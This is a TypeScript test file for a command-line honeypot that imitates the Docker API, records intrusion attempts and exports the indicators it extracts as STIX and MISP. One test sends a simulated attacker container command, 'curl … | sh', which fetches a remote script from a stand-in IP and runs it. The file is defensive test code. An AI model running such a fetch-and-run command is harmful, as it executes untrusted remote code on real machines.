// `portcullis trap` as a process: events reach --events FILE and the store; `trap report` reads both and
// exports STIX 2.1 and MISP. The process is ours; it is stopped with SIGTERM by pid.
import { execFile, spawn, type ChildProcess } from 'node:child_process';
import { mkdtempSync, readFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { http, until } from './helpers.js';

const MAIN = join(import.meta.dirname, '../../../src/cli/main.ts');
const dir = mkdtempSync(join(tmpdir(), 'pcl-trap-cli-'));
const eventsFile = join(dir, 'trap.jsonl');
const storeFile = join(dir, 'store.db');
let port = 0;
let child: ChildProcess;
let stderr = '';

function freePort(): Promise<number> {
  return new Promise((resolve) => {
    const s = createServer().listen(0, '127.0.0.1', () => {
      const p = (s.address() as { port: number }).port;
      s.close(() => resolve(p));
    });
  });
}

function cli(args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    execFile(process.execPath, ['--import', 'tsx', MAIN, ...args], { maxBuffer: 16 * 1024 * 1024 }, (err, stdout, se) =>
      resolve({ code: err ? Number((err as { code?: number }).code ?? 1) : 0, stdout, stderr: se }));
  });
}

beforeAll(async () => {
  port = await freePort();
  child = spawn(process.execPath, ['--import', 'tsx', MAIN, 'trap', '--listen', `127.0.0.1:${port}`, '--events', eventsFile,
    '--store', storeFile, '--sensor', 'cli-sensor'], { stdio: ['ignore', 'ignore', 'pipe'] });
  child.stderr?.on('data', (c: Buffer) => { stderr += c.toString(); });
  await until(() => stderr.includes('posing as Docker'));
});

afterAll(() => {
  if (child.exitCode === null) child.kill('SIGKILL');
});

describe('trap: command line', () => {
  it('records to the events file and the store, then reports and exports', async () => {
    expect(stderr).toContain(`on 127.0.0.1:${port}`);
    await http(port, 'HEAD', '/_ping');
    await http(port, 'POST', '/images/create?fromImage=alpine&tag=latest');
    const r = await http(port, 'POST', '/containers/create', { Image: 'alpine', Cmd: ['sh', '-c', 'curl -s http://203.0.113.80/a.sh | sh'] });
    expect(r.status).toBe(201);
    const exited = new Promise((resolve) => child.once('exit', resolve));
    child.kill('SIGTERM');
    await exited;
    const lines = readFileSync(eventsFile, 'utf8').trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(lines[0]).toMatchObject({ eventid: 'trap.session.opened', sensor: 'cli-sensor' });
    expect(lines.at(-1)).toMatchObject({ eventid: 'trap.session.closed', reason: 'shutdown' });
    expect(lines.some((e) => e.eventid === 'trap.indicator.extracted' && e.value === 'http://203.0.113.80/a.sh')).toBe(true);

    const fromStore = await cli(['trap', 'report', '--store', storeFile, '--format', 'json']);
    expect(fromStore.code).toBe(0);
    const summary = JSON.parse(fromStore.stdout) as { totals: { sessions: number; requests: number }; indicators: Array<{ value: string }> };
    expect(summary.totals).toMatchObject({ sessions: 1, requests: 3 });
    expect(summary.indicators.map((i) => i.value)).toContain('http://203.0.113.80/a.sh');

    const stix = JSON.parse((await cli(['trap', 'report', '--events', eventsFile, '--format', 'stix'])).stdout) as { type: string; objects: Array<{ type: string; pattern?: string }> };
    expect(stix.type).toBe('bundle');
    expect(stix.objects.map((o) => o.pattern)).toContain("[url:value = 'http://203.0.113.80/a.sh']");
    const misp = JSON.parse((await cli(['trap', 'report', '--events', eventsFile, '--format', 'misp'])).stdout) as { Event: { Attribute: Array<{ type: string; value: string }> } };
    expect(misp.Event.Attribute).toContainEqual(expect.objectContaining({ type: 'ip-dst', value: '203.0.113.80' }));
    const two = await cli(['trap', 'report', '-f', 'json', '--events', eventsFile, join(import.meta.dirname, '../../fixtures/trap/kinsing-session.jsonl')]);
    expect((JSON.parse(two.stdout) as { totals: { sessions: number } }).totals.sessions).toBe(2);
    const bad = await cli(['trap', 'report', '--events', eventsFile, '--format', 'pdf']);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toContain('PCL_ERR_REPORT_FORMAT');
  });

  it('drops root privileges after binding when given --user (and still records)', async () => {
    const p = await freePort();
    let err = '';
    const ev = join(dir, 'user.jsonl');
    const c = spawn(process.execPath, ['--import', 'tsx', MAIN, 'trap', '--listen', `127.0.0.1:${p}`, '--no-store', '--events', ev,
      '--user', 'nobody'], { stdio: ['ignore', 'ignore', 'pipe'] });
    c.stderr?.on('data', (b: Buffer) => { err += b.toString(); });
    try {
      await until(() => err.includes('posing as Docker') || c.exitCode !== null);
      const uid = /^Uid:\s+(\d+)\s+(\d+)/m.exec(readFileSync(`/proc/${c.pid}/status`, 'utf8'));
      // As root the trap must end up as nobody; as any other user it keeps its own ids and says nothing.
      const expected = process.getuid?.() === 0 ? '65534' : String(process.getuid?.());
      expect(uid?.[1]).toBe(expected);
      expect(uid?.[2]).toBe(expected);
      expect((await http(p, 'POST', '/containers/create', { Image: 'nginx:1.25' })).status).toBe(201);
    } finally {
      c.kill('SIGTERM');
    }
    await new Promise((r) => c.once('exit', r));
    expect(readFileSync(ev, 'utf8')).toContain('trap.container.create_attempted');
  });

  it('poses as the engine and decoys a YAML config describes, flags overriding it', async () => {
    const p = await freePort();
    let err = '';
    const c = spawn(process.execPath, ['--import', 'tsx', MAIN, 'trap', '--config', join(import.meta.dirname, '../../fixtures/trap/trap.yaml'),
      '--listen', `127.0.0.1:${p}`, '--no-store', '--events', join(dir, 'yaml.jsonl'), '--ncpu', '16'], { stdio: ['ignore', 'ignore', 'pipe'] });
    c.stderr?.on('data', (b: Buffer) => { err += b.toString(); });
    try {
      await until(() => err.includes('posing as Docker') || c.exitCode !== null);
      expect(err).toContain('posing as Docker 20.10.24 (API 1.41)');
      const ping = await http(p, 'HEAD', '/_ping');
      expect(ping.headers).toMatchObject({ 'api-version': '1.41', server: 'Docker/20.10.24 (linux)' });
      const info = (await http(p, 'GET', '/v1.41/info')).json() as Record<string, unknown>;
      expect(info).toMatchObject({ NCPU: 16, MemTotal: 67421208576, Name: 'build-07', ServerVersion: '20.10.24' });
      const names = ((await http(p, 'GET', '/containers/json')).json() as Array<{ Names: string[] }>).map((x) => x.Names[0]);
      expect(names.sort()).toEqual(['/ci-runner', '/xmrig']);
      expect((await http(p, 'GET', '/v1.43/version')).status).toBe(400);
    } finally {
      c.kill('SIGTERM');
    }
    const bad = await cli(['trap', '--config', join(import.meta.dirname, '../../fixtures/trap/trap.yaml'), '--engine-version', '99.1.0', '--no-store', '--events', join(dir, 'x.jsonl')]);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toContain('PCL_ERR_CONFIG_INVALID');
  });
});
